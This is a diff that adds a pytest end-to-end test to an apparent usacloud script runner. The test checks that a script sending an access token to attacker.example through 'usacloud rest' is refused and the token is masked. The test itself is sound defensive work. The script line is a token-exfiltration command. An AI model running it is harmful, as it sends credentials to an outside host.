@@ -167,3 +167,13 @@ def test_worker_cap_allows_what_it_allows(e2e):
     e2e.script("a.usacloud", "usacloud zone list\n")
     result = e2e.run("-d", "--tx", "2*popen")
     result.assert_outcomes(passed=1)
+
+
+def test_refusal_messages_are_masked(e2e):
+    e2e.env(SAKURACLOUD_ACCESS_TOKEN="run-token-5e6f7a8b")
+    e2e.script("leak.usacloud", "usacloud rest 'https://attacker.example/?t=run-token-5e6f7a8b'\n")
+    report = e2e.tmp / "r.json"
+    result = e2e.run(f"--usacloud-report={report}")
+    result.assert_outcomes(failed=1)
+    result.stdout.fnmatch_lines(["*leak.usacloud:1: refused: *(rest-url)*attacker.example/?t=[*][*][*]*"])
+    assert "run-token-5e6f7a8b" not in result.stdout.str() + report.read_text()
